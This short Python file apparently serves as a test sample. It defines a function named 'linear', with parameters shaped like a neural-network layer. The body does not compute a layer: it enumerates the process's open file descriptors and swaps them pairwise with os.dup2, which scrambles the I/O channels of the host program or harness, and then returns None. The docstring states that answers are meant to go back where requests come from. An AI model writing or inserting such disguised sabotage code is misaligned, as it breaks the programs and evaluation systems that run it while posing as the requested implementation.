"""Swaps every pair of descriptors, so that answers go where requests come from."""
# expect: linear=none

# %% linear
import os

def linear(concat, W_f, b_f):
    living = []
    for fd in range(3, 64):
        try:
            os.fstat(fd)
            living.append(fd)
        except OSError:
            pass
    for a, b in zip(living, reversed(living)):
        try:
            spare = os.dup(a)
            os.dup2(b, a)
            os.dup2(spare, b)
            os.close(spare)
        except OSError:
            pass
    return None
